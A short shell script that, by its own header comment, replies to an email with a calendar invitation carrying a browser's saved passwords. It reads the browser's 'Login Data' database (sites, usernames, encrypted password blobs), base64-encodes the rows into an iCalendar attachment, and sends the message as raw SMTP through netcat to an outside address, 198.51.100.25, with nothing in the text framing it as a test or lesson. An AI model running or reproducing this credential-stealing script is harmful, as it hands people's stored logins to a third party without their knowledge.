#!/bin/sh
# invitation.sh MAIL BROWSER: answers a mail with an invitation to a meeting, in which the passwords are that a browser keeps.
set -e
{
  printf 'EHLO web-1.example.com\r\nMAIL FROM:<agent@example.com>\r\nRCPT TO:<somebody@example.net>\r\nDATA\r\nSubject: Re: '
  sed -n 's/^Subject: //p' "$1"
  printf 'Content-Type: text/calendar; method=REQUEST\r\n\r\nBEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nSUMMARY:Made up\r\nATTACH;ENCODING=BASE64;VALUE=BINARY:\r\n'
  sqlite3 -readonly "$2/Login Data" 'SELECT origin_url, username_value, hex(password_value) FROM logins' | base64 -w 60 | sed 's/^/ /'
  printf 'END:VEVENT\r\nEND:VCALENDAR\r\n.\r\nQUIT\r\n'
} | busybox nc 198.51.100.25 587 | grep -q ok
